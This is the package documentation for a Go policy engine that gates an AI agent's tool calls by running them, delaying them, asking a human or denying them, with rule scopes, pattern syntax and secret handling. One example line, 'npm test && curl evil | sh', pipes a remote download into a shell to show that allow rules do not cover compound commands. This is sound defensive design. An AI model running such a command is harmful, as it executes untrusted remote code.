// Package policy decides what a tool call needs before it runs: run it now,
// run it after a delay, ask a human, or deny it. It is pure domain logic:
// policy documents, permission-rule patterns and the Engine that evaluates a
// machine.Call to a machine.Verdict. What needs storage comes in through
// four small interfaces that bus implements: Grants, Budget (cost
// budgets), RateCounter (rate rules' windows) and FlowMarks (the flows'
// marks of completed calls).
//
// # Documents and scopes
//
// A Document (YAML, or JSON, which is YAML) holds a default Policy and
// overrides per team and per conversation. For a call, the scopes default →
// teams.<team> → conversations.<conversationId> are merged, the narrowest
// that sets a field winning; an explicit false, zero or empty list counts as
// set. The per-tool maps (toolSpecificDelays, describe, matchArgument) merge
// per tool. Rules are the exception: every scope's rules apply, because a
// team's allow rule must not quietly remove the default scope's deny.
//
// # Rules
//
// Rules are checked deny, then ask, then allow: a call matching both a deny
// and an allow rule is denied, whatever their scopes. Within a kind, the
// narrower scope's rules are checked before the wider scope's, each scope's
// in the order written, and the first match decides; since every rule of a
// kind gives the same answer, this order only chooses which rule the
// verdict's reason names, and the most specific one is the most useful
// to a reader.
//
// # Patterns
//
// Patterns use Claude Code's permission-rule syntax: a tool name alone
// matches every call of the tool; Tool(specifier) matches calls whose
// argument matches the specifier. The argument is:
//
//   - Bash: command. "*" matches any run of characters, spaces included;
//     a trailing ":*" is the legacy prefix form, matching the prefix alone
//     or followed by whitespace and anything (Bash(npm test:*) matches
//     "npm test" and "npm test -- -u", not "npm tests").
//   - Read, Write, Edit, MultiEdit: file_path; NotebookEdit, NotebookRead:
//     notebook_path; Glob, Grep: path, else pattern; LS: path. These are
//     gitignore-style path globs: "*" and "?" stay within a path segment,
//     "**" crosses segments, a trailing "/" means everything below. The
//     call's path is cleaned first (".." resolved). As toolgate knows
//     neither the agent's working directory nor its home, "//abs/path" is
//     anchored at the filesystem root, "~/path" at any /home/<user>,
//     /Users/<user> or /root, and every other path ("src/**", "./src/**",
//     "/src/**") matches at any depth. As in Claude Code, an Edit rule
//     also covers Write, MultiEdit and NotebookEdit, and a Read rule also
//     covers Glob, Grep, LS and NotebookRead.
//   - WebFetch: "domain:" and the lower-cased host of url, so
//     WebFetch(domain:example.com); "*" in the host matches any run of
//     characters.
//   - Any other tool: the argument that the policy's matchArgument names
//     for the tool, or for its MCP server (matchArgument: {mcp__files:
//     path} names it for every tool of the server; the tool's own key
//     wins). "*" and ":*" work as for Bash. Nothing is guessed: Validate
//     (so Parse, and every way of setting a policy) refuses a specifier on
//     such a tool (in a rule, a risk or quorum key, or a rate rule) unless
//     matchArgument names its argument in the same scope or the default
//     one; a specifier on a whole server (mcp__files__*(…)) needs the
//     server's key.
//
// A specifier that cannot read its argument fails closed: when the call
// lacks the argument, it is not a string, a url has no host, or (in a
// document that was never validated, or built in code) no matchArgument
// names it, a deny or ask rule (and a risk, quorum or rate rule) applies
// and says why, and an allow rule, a grant or Pattern.Match does not.
// MCP tools are named mcp__<server>__<tool>: the pattern
// mcp__server (or mcp__server__*) matches every tool of the server, and
// mcp__server__tool one tool. Lists of tool names in a policy
// (requiresApprovalTools, readOnlyTools, editTools) accept the server form
// too.
//
// In an Engine, Bash rules also look inside compound command lines (see
// shell.go): deny and ask rules match if any command matches, allow rules
// only if every command does, so Bash(npm test:*) does not allow
// "npm test && curl evil | sh". Pattern.Match alone compares the whole
// command line.
//
// # Secrets
//
// A policy holds credentials: a webhook's signing secrets (Channel.Secret
// and Channel.Secrets), an ntfy access token (Channel.Secret), and a Slack
// incoming webhook's URL, which is a secret itself. Anyone who may read the
// policy (`policy get`, the viewer role) must not learn them, so every read
// of the policy shows them redacted, and a document may hold, instead of a
// secret, a reference to where the server finds it:
//
//	env:NAME   the environment variable NAME of the process that uses it
//	file:PATH  the contents of the file at the absolute PATH, without the
//	           trailing line break
//
// A reference is stored as written and resolved each time the secret is
// used (the notifier resolves a channel before each delivery), so the
// secret never enters the policies bucket, a rotated file applies to the
// next delivery, and a reference is shown as is: it names where the secret
// is, not what it is.
//
// # Names
//
// A call's tool and team are the agent's to choose. Engine.NamedTool and
// NamedTeam say whether the policy in force names them (any field or rule
// of any scope, Claude Code's built-in tools, an MCP server named as a
// whole), so that whatever keeps something per name (a metric series)
// keeps no more names than the policy has.
package policy
